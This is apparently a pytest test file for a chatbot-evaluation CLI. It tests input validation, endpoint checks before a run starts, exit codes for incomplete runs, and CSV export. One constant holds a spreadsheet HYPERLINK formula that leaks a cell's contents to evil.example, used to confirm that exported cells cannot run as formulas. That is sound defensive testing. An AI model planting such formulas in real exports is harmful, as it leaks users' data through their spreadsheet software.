"""Issue 19: bad input is one line and exit 2 before any work; a run that lost its cells exits 3;
every endpoint is checked before the run directory exists; no CSV cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import ROOT, assert_one_line_error, closed_port, simpop, write_config

from simpop.labels.files import read_table
from simpop.testing.fake_openai import FakeOpenAIServer, Reply
from simpop.testing.hand_built import build_run
from simpop.testing.http_bot import HTTPBotServer
from simpop.testing.patients import reworded, with_judges

GOOD = (
    "name: t\ntarget: {kind: qap, qaps: data/qaps.jsonl}\npersonas: personas\nvariants: 1\nlimit: 1\n"
    "scenarios: []\n"
)
LATIN1 = "é".encode("latin-1")  # 0xe9: not UTF-8 on its own
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2, "click")'


def variants_reply(request: dict) -> Reply:
    return Reply(json.dumps({"questions": reworded(request)}))


def assert_nothing_written(project: Path) -> None:
    assert not (project / "runs").exists()


BAD_FILES = {  # where: (file, its bytes)
    "config": ("run.yaml", b"name: x" + LATIN1 + b"\n"),
    "qaps.jsonl": ("data/bad.jsonl", b'{"id": "q1", "question": "Caf' + LATIN1 + b'?", "answer": "Yes"}\n'),
    "qaps.csv": ("data/bad.csv", b"id,question,answer\nq1,Caf" + LATIN1 + b"?,Yes\n"),
    "persona": ("personas/zz-latin1.yaml", b"id: zz\nname: Z" + LATIN1 + b"\n"),
    "scenario": ("scenarios/latin1.yaml", b"id: s\nname: S" + LATIN1 + b"\n"),
    "policy": ("policy.yaml", b"rules:\n  - {metric: safe_behaviour, min: 0.5, why: caf" + LATIN1 + b"}\n"),
}


@pytest.mark.parametrize("where", list(BAD_FILES))
def test_files_that_are_not_utf8_are_one_line_naming_the_file(project, where):
    name, data = BAD_FILES[where]
    config = GOOD
    if where.startswith("qaps"):
        config = GOOD.replace("data/qaps.jsonl", name)
    elif where == "scenario":
        config = GOOD.replace("scenarios: []", "scenarios: all\nscenario_dir: scenarios")
    write_config(project, config)
    (project / name).parent.mkdir(exist_ok=True)
    (project / name).write_bytes(data)
    policy = ["--policy", name] if where == "policy" else []
    result = simpop("run", "run.yaml", *policy, cwd=project)
    assert_one_line_error(result, Path(name).name, "not UTF-8 text (byte 0xe9 on line")
    assert_nothing_written(project)


def test_out_pointing_at_a_file_is_one_line(project):
    write_config(project, GOOD)
    (project / "runs.txt").write_text("not a folder")
    result = simpop("run", "run.yaml", "--out", "runs.txt", cwd=project)
    assert_one_line_error(result, "--out runs.txt", "is a file, not a folder")
    assert (project / "runs.txt").read_text() == "not a folder"


def test_retry_failed_without_a_run_to_resume_is_one_line(project):
    write_config(project, GOOD)
    result = simpop("run", "run.yaml", "--retry-failed", cwd=project)
    assert_one_line_error(result, "--retry-failed", "only with --resume")
    assert_nothing_written(project)


@pytest.mark.parametrize("url", ["ht!tp//nope", "http://", "ftp://bot.example/ask"])
def test_a_bot_url_that_is_not_a_url_is_caught_when_the_config_is_read(project, url):
    write_config(project, GOOD.replace("{kind: qap, qaps: data/qaps.jsonl}", f"{{kind: http, url: '{url}'}}"))
    result = simpop("run", "run.yaml", cwd=project)
    assert_one_line_error(result, "run.yaml", "field 'target.url'", "not an http(s) URL")
    assert_nothing_written(project)


def test_an_llm_base_url_that_is_not_a_url_is_caught(project):
    write_config(project, GOOD + "llm: {base_url: 'localhost:8080'}\n")
    assert_one_line_error(simpop("run", "run.yaml", cwd=project), "field 'llm.base_url'")


def test_a_policy_with_an_unknown_metric_is_bad_input_not_a_failed_gate(tmp_path, project):
    run = build_run(tmp_path / "built", "bot", {("low", "emergency"): [1, 1]})
    typo = tmp_path / "typo.yaml"
    typo.write_text(
        "rules:\n  - {metric: safe_behaviour, min: 0.5}\n  - {metric: escalation.escalate, min: 0.9}\n"
    )
    result = simpop("gate", str(run), "--policy", str(typo), cwd=ROOT)
    assert_one_line_error(
        result, "typo.yaml: rule 2", "unknown metric 'escalation.escalate'", "escalation.escalated"
    )
    # the same policy stops a run before it starts
    write_config(project, GOOD)
    assert_one_line_error(simpop("run", "run.yaml", "--policy", str(typo), cwd=project), "rule 2")
    assert_nothing_written(project)
    # a metric of any retrieval cut-off is known
    cutoff = tmp_path / "cutoff.yaml"
    cutoff.write_text("rules:\n  - {metric: retrieval.hit@10, min: 0.5}\n")
    assert simpop("gate", str(run), "--policy", str(cutoff), cwd=ROOT).returncode == 1  # not measured


def test_an_llm_that_refuses_our_key_is_found_before_any_work(project):
    with FakeOpenAIServer(default=with_judges(variants_reply), api_key="right-key") as server:
        write_config(project, GOOD + f"llm: {{base_url: '{server.base_url}'}}\n")
        result = simpop("run", "run.yaml", cwd=project, env={"SIMPOP_LLM_API_KEY": "wrong-key"})
        assert_one_line_error(result, f"LLM endpoint {server.base_url} refused our credentials (401)")
        assert "wrong-key" not in result.stderr
        assert server.requests == []
        ok = simpop("run", "run.yaml", cwd=project, env={"SIMPOP_LLM_API_KEY": "right-key"})
    assert ok.returncode == 0, ok.stderr


def test_an_unreachable_llm_is_found_before_the_run_directory_exists(project):
    url = f"http://127.0.0.1:{closed_port()}/v1"
    write_config(project, GOOD + f"llm: {{base_url: '{url}', max_retries: 0}}\n")
    assert_one_line_error(simpop("run", "run.yaml", cwd=project), f"cannot reach LLM endpoint {url}")
    assert_nothing_written(project)


@pytest.mark.parametrize("problem", ["unreachable", "refused"])
def test_a_bot_that_cannot_answer_is_found_before_any_question_is_written(project, problem):
    with FakeOpenAIServer(default=with_judges(variants_reply)) as llm, HTTPBotServer(token="secret") as bot:
        url = f"http://127.0.0.1:{closed_port()}/ask" if problem == "unreachable" else f"{bot.url}/ask"
        target = f"{{kind: http, url: '{url}', headers: {{Authorization: 'Bearer wrong'}}}}"
        config = GOOD.replace("{kind: qap, qaps: data/qaps.jsonl}", target).replace("limit: 1\n", "")
        write_config(project, config + f"seeds: data/qaps.jsonl\nllm: {{base_url: '{llm.base_url}'}}\n")
        result = simpop("run", "run.yaml", cwd=project)
        assert llm.requests == [] and bot.requests == []  # no question written, none asked
    expected = f"cannot reach bot endpoint {url}" if problem == "unreachable" else "refused our credentials"
    assert_one_line_error(result, expected)
    assert "wrong" not in result.stderr
    assert_nothing_written(project)


def test_a_run_whose_every_cell_failed_exits_3_and_does_not_blame_the_personas(project):
    with FakeOpenAIServer(default=Reply(status=500)) as server:
        write_config(project, GOOD + f"llm: {{base_url: '{server.base_url}', max_retries: 0}}\n")
        result = simpop("run", "run.yaml", "--personas", "high-literacy,older-phone", cwd=project)
    assert result.returncode == 3, result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("run incomplete: the generate stage lost 2 of 2 cells")
    assert "answered 500" in last and "Traceback" not in result.stderr
    assert "of its probes are usable" not in result.stdout and "written probes" not in result.stdout
    [run_dir] = (project / "runs").iterdir()
    summary = json.loads((run_dir / "summary.json").read_text())
    assert summary["incomplete"] is True
    assert {s["stage"]: (s["planned"], s["failed"]) for s in summary["stages"]} == {
        "generate": (2, 2),
        "ask": (0, 0),
    }
    # the gate cannot pass it either
    policy = project / "lenient.yaml"
    policy.write_text("rules:\n  - {metric: qap_match, min: 0.0}\n")
    gated = simpop("gate", str(run_dir), "--policy", str(policy), cwd=project)
    assert gated.returncode == 3 and "the run is incomplete" in gated.stdout
    assert "FAIL" in gated.stdout and "PASS" not in gated.stdout  # its one rule is met, but
    assert "incomplete: lost 2 of 2" in " ".join(gated.stdout.split())
    assert 'name="run completeness"' in (run_dir / "junit.xml").read_text()


def test_a_stage_that_lost_some_cells_is_named_and_the_limit_is_configurable(project):
    failing = {"n": 0}

    def half_fail(request: dict) -> Reply:
        failing["n"] += 1
        return Reply(status=500) if failing["n"] % 2 else with_judges(variants_reply)(request)

    with FakeOpenAIServer(default=half_fail) as server:
        llm = f"llm: {{base_url: '{server.base_url}', max_retries: 0, concurrency: 1}}\n"
        write_config(project, GOOD + llm + "failures: {incomplete_at: 0.5}\n")
        result = simpop(
            "run", "run.yaml", "--personas", "high-literacy,older-phone", "--no-judge", cwd=project
        )
    assert "warning: generate stage lost 1 of 2 cells (50%)" in result.stdout, result.stdout
    assert result.returncode == 3 and "run incomplete" in result.stderr


def test_no_cell_a_spreadsheet_would_run_and_labels_read_back_the_original(tmp_path):
    run = build_run(
        tmp_path / "runs", "bot", {("low", "in-scope"): [1, 1]}, answers={"low-in-scope-0": FORMULA}
    )
    assert simpop("export-labels", str(run), cwd=ROOT).returncode == 0
    assert simpop("report", str(run), cwd=ROOT).returncode == 0
    for name in ("labels.csv", "probes.csv"):
        text = (run / name).read_text(encoding="utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + FORMULA in cells, name
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), name
    table = read_table(run / "labels.csv")
    assert FORMULA in [c for row in table for c in row]
    # a clinician marks the row and writes a comment that starts like a formula
    rows = list(csv.DictReader(io.StringIO((run / "labels.csv").read_text(encoding="utf-8-sig"))))
    formula_row = next(r for r in rows if r["answer"] == "'" + FORMULA)
    formula_row |= {"incorrect": "x", "comment": "'-links to a stranger's site"}
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    (run / "labels.csv").write_text(out.getvalue(), encoding="utf-8-sig")
    assert simpop("import-labels", str(run), str(run / "labels.csv"), cwd=ROOT).returncode == 0
    [label] = [json.loads(line) for line in (run / "labels.jsonl").read_text().splitlines()]
    assert label["label"] == "incorrect" and label["comment"] == "-links to a stranger's site"


def test_bad_input_is_rejected_before_the_heavy_libraries_load(project):
    (project / "bad.yaml").write_text("name: t\ntarget: [kind: qap\n")
    # each of these takes from a tenth of a second to seconds to import on two busy cores
    heavy = ("torch", "sentence_transformers", "chromadb", "xllamacpp", "sklearn", "scipy", "openai")
    code = f"""
import sys
from simpop.cli import cli
try:
    cli(["run", "bad.yaml"], standalone_mode=False)
except Exception as error:
    print(type(error).__name__)
print(sorted(m for m in {heavy!r} if m in sys.modules))
"""
    result = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True, text=True)
    assert result.stdout.splitlines() == ["UserError", "[]"], result.stdout + result.stderr


def test_the_gate_draws_the_same_intervals_whatever_order_the_scores_were_written_in(tmp_path):
    from simpop.report.gate import gate
    from simpop.report.policy import Policy
    from simpop.store import load_run

    safe = {("low", "in-scope"): [1] * 6, ("high", "in-scope"): [1] * 6}
    faithfulness = [0.1, 0.9, 0.4, 0.75, 0.2, 1.0]
    metrics = {
        f"{p}-in-scope-{i}": {"faithfulness": v * (0.5 if p == "low" else 1.0)}
        for p in ("low", "high")
        for i, v in enumerate(faithfulness)
    }
    run = build_run(tmp_path / "runs", "bot", safe, metrics=metrics)
    policy = Policy.model_validate(
        {"basis": "interval", "rules": [{"metric": "faithfulness", "min": 0.2, "per": "total"}]}
    )
    first = gate(load_run(run), policy, "p").checks
    scores = run / "scores.jsonl"
    scores.write_text("".join(reversed(scores.read_text().splitlines(keepends=True))))
    again = gate(load_run(run), policy, "p").checks
    assert first[0].ci_low is not None and first[0].ci_low < first[0].mean  # a bootstrap interval
    assert [(c.ci_low, c.ci_high) for c in again] == [(c.ci_low, c.ci_high) for c in first]
